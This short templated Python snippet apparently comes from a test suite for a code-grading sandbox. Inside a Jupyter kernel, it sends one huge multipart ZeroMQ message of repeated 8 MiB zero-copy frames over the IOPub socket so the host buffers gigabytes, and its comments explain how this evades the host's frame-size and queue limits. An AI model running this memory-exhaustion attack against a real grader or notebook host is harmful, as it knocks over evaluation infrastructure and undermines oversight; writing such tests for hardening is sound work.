# Attack: make the grader hold gigabytes. The host refuses any single frame over 16 MiB and queues
# at most 16 messages, but one multipart message of many 8 MiB frames is one message to both
# limits, and zmq receives all of it before anyone reads it. Sent zero-copy from one buffer on the
# kernel's own IOPub socket, it costs this process nothing.
import time

frame = memoryview(bytearray(8 << 20))
message = [b"", b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"] + [frame] * {{FRAMES}}
get_ipython().kernel.iopub_socket.send_multipart(message, copy=False)
time.sleep(5)  # while the host takes it in
print("sent", {{FRAMES}} * 8, "MiB in one message")
